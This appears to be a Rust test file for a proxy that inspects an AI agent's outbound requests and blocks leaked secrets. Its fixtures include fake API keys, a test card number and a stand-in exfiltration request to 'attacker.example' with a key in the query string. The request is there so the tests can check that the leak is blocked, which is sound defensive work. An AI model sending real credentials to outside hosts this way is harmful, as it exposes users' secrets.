//! Playbooks: a head, chunks, a decision. How a body is cut never changes what is decided.

mod flow;
mod homes;
mod pieces;
mod rules_at_home;

use std::sync::Arc;

use http::header::AUTHORIZATION;
use http::{HeaderMap, Method};
use oktsec_detect::{Detector, FingerprintKey, Limits};
use oktsec_model::{
    Action, AgentName, Caller, Decision, ExchangeId, HttpVersion, IdentitySource, Origin,
    Principal, Reason, RequestHead, Target, Timestamp, Treatment,
};
use oktsec_policy::{AgentSource, EgressSource, Entry, HostPatterns, Set, Source, compile};

use crate::{Begin, Inspection, Progress, Scope, Snapshot};

const KEY: &str = concat!("AKIA", "Q3EGRVT5YLNZ2WXC");

fn snapshot(scan_requests: bool, body_bytes_max: usize) -> Arc<Snapshot> {
    let hosts = ["api.example.com", "api.openai.com"];
    snapshot_of(&hosts, scan_requests, body_bytes_max)
}

/// For an agent that may reach some hosts.
fn snapshot_towards(hosts: &[&str]) -> Arc<Snapshot> {
    snapshot_of(hosts, true, 1 << 20)
}

fn snapshot_of(hosts: &[&str], scan_requests: bool, body_bytes_max: usize) -> Arc<Snapshot> {
    let origin = |entry: &str| Origin {
        entry: entry.into(),
        file: "test".into(),
        line: 1,
    };
    let list = |text: &str| {
        vec![Entry {
            text: text.to_owned(),
            origin: origin("list[0]"),
        }]
    };
    let mut egress = EgressSource::empty(origin("egress"));
    egress.allowed_domains = hosts.iter().flat_map(|host| list(host)).collect();
    egress.blocked_categories = list("credentials");
    egress.scan_requests = Some(Set {
        value: scan_requests,
        origin: origin("scan_requests"),
    });
    let agent = AgentSource {
        name: AgentName::parse("researcher").unwrap(),
        origin: origin("agents.researcher"),
        suspended: None,
        egress: Some(egress),
        can_message: Vec::new(),
    };
    let source = Source {
        agents: vec![agent],
        ..Source::default()
    };
    let Ok(compiled) = compile(source) else {
        panic!("the policy compiles")
    };
    let detector = Detector::builtin(FingerprintKey::new([1; 32]), Limits::default()).unwrap();
    let scope = Scope {
        intercept: true,
        bypass: HostPatterns::default(),
        body_bytes_max,
        streams_oversize: false,
    };
    Arc::new(Snapshot::new(
        1,
        "sha256:0".into(),
        Arc::new(detector),
        compiled.policies,
        scope,
    ))
}

fn head(url: &str) -> Arc<RequestHead> {
    head_with(url, HeaderMap::new())
}

fn head_with(url: &str, headers: HeaderMap) -> Arc<RequestHead> {
    let (target, path) = Target::parse_absolute_form(url).unwrap();
    Arc::new(RequestHead {
        id: ExchangeId::new(Timestamp::default(), 0),
        at: Timestamp::default(),
        principal: Principal {
            caller: Caller::Named(AgentName::parse("researcher").unwrap()),
            source: IdentitySource::Header,
            claimed: None,
            client: "127.0.0.1:1".parse().unwrap(),
        },
        target,
        method: Method::POST,
        path_and_query: path.to_owned(),
        headers,
        version: HttpVersion::Http11,
    })
}

fn decide(snapshot: &Arc<Snapshot>, head: &Arc<RequestHead>, chunks: &[&[u8]]) -> Decision {
    let admitted = snapshot.admit(&head.principal, &head.target, &head.method);
    let mut inspection = match Inspection::begin(snapshot, head, admitted) {
        Begin::Decided(decision) | Begin::Unscanned(decision) => return decision,
        Begin::NeedBody(inspection) => inspection,
    };
    for chunk in chunks {
        if inspection.push(chunk) == Progress::TooLarge {
            return inspection.refuse(Reason::BodyTooLarge);
        }
    }
    let judged = inspection.finish();
    assert_eq!(judged.body, chunks.concat(), "the body leaves as it came");
    judged.decision
}

#[test]
fn cutting_never_changes_the_decision() {
    let snapshot = snapshot(true, 4096);
    let head = head("https://api.example.com/submit");
    for (body, action) in [
        (format!("{{\"n\":\"results \\n{KEY}\"}}"), Action::Block),
        (
            "{\"n\":\"results, and nothing else at all\"}".to_owned(),
            Action::Allow,
        ),
    ] {
        let whole = decide(&snapshot, &head, &[body.as_bytes()]);
        assert_eq!(whole.action, action, "{body}");
        for first in 0..body.len() {
            for second in [first, (first + 7).min(body.len()), body.len()] {
                let bytes = body.as_bytes();
                let cut = decide(
                    &snapshot,
                    &head,
                    &[&bytes[..first], &bytes[first..second], &bytes[second..]],
                );
                assert_eq!(cut, whole, "cut at {first} and {second}");
            }
        }
    }
}

#[test]
fn a_head_can_decide_alone() {
    let snapshot = snapshot(true, 4096);
    let blocked = decide(
        &snapshot,
        &head(&format!("https://api.example.com/?k={KEY}")),
        &[],
    );
    assert_eq!(
        (blocked.action, blocked.reason),
        (Action::Block, Reason::BlockedContent)
    );
    let elsewhere = head(&format!("https://attacker.example/?k={KEY}"));
    let admitted = snapshot.admit(&elsewhere.principal, &elsewhere.target, &elsewhere.method);
    let recorded = snapshot.with_head_findings(&elsewhere, admitted);
    assert_eq!(recorded.reason, Reason::BlockedDomain);
    assert_eq!(
        recorded.findings.len(),
        1,
        "the record names what would have left"
    );
}

#[test]
fn a_key_passes_on_its_way_home_and_nowhere_else() {
    const KEY: &str = concat!("sk-proj-", "q3EGrVT5yLNz2WxCd8Kf0Hs6Jb4Mn1Pa7Rt9Uv");
    let snapshot = snapshot(true, 4096);
    let treatments = |decision: &Decision| -> Vec<Treatment> {
        let findings = decision.findings.iter();
        findings.map(|finding| finding.treatment).collect()
    };
    let mut headers = HeaderMap::new();
    headers.insert(AUTHORIZATION, format!("Bearer {KEY}").parse().unwrap());
    let home = head_with("https://api.openai.com/v1/models", headers.clone());
    let passed = decide(&snapshot, &home, &[b"{}"]);
    assert_eq!(
        (passed.action, passed.reason),
        (Action::Allow, Reason::Allowed)
    );
    let treated = treatments(&passed);
    assert!(!treated.is_empty(), "what was seen is in the record");
    assert!(
        treated.iter().all(|t| *t == Treatment::Expect),
        "{treated:?}"
    );

    let elsewhere = head_with("https://api.example.com/", headers);
    let blocked = decide(&snapshot, &elsewhere, &[]);
    assert_eq!(blocked.reason, Reason::BlockedContent);
    let both = decide(&snapshot, &home, &[b"my key is ", KEY.as_bytes()]);
    assert_eq!(both.reason, Reason::BlockedContent);
    let treated = treatments(&both);
    assert!(treated.contains(&Treatment::Block) && treated.contains(&Treatment::Expect));
}

#[test]
fn what_cannot_be_held_is_refused_and_what_is_not_scanned_is_not_held() {
    let head = head("https://api.example.com/");
    let body = vec![b'x'; 65];
    let refused = decide(&snapshot(true, 64), &head, &[&body]);
    assert_eq!(
        (refused.action, refused.reason),
        (Action::Block, Reason::BodyTooLarge)
    );
    let unscanned = decide(&snapshot(false, 64), &head, &[&body]);
    assert_eq!(unscanned.action, Action::Allow);
}

#[test]
fn a_conversation_sent_again_is_looked_at_once_and_never_excuses_a_secret() {
    let snapshot = snapshot(true, 4096);
    let head = head("https://api.openai.com/v1/chat/completions");
    let card = concat!("4111 1111 ", "1111 1111");
    let body = |last: &str| {
        format!(
            "{{\"messages\":[{{\"role\":\"user\",\"content\":\"card {card}\"}},{{\"role\":\"user\",\"content\":\"{last}\"}}]}}"
        )
    };
    let first = decide(&snapshot, &head, &[body("hello").as_bytes()]);
    assert_eq!(
        (first.action, first.findings.len()),
        (Action::Flag, 1),
        "no category blocks it"
    );
    let again = decide(&snapshot, &head, &[body("and on").as_bytes()]);
    assert_eq!(
        (again.action, again.findings.len()),
        (Action::Allow, 0),
        "nothing is said twice"
    );
    for _ in 0..2 {
        let leak = decide(&snapshot, &head, &[body(KEY).as_bytes()]);
        assert_eq!(
            leak.action,
            Action::Block,
            "what was refused is looked at each time"
        );
        let place = leak
            .findings
            .first()
            .map(|finding| finding.location.to_string());
        assert_eq!(place.as_deref(), Some("body > json $.messages[1].content"));
    }
    let elsewhere = self::head("https://api.example.com/v1/chat/completions");
    let other = decide(&snapshot, &elsewhere, &[body("hello").as_bytes()]);
    assert_eq!(other.findings.len(), 1, "another host is another way");
}
